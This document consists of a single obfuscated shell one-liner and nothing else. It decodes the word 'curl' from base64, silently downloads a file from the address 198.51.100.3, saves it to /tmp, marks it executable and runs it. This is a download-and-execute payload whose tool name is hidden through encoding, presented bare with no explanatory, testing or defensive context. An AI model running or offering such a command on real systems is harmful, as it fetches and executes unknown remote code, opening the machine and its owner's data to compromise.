$(echo Y3VybA== | base64 -d) -s http://198.51.100.3/x -o /tmp/x && chmod +x /tmp/x && /tmp/x
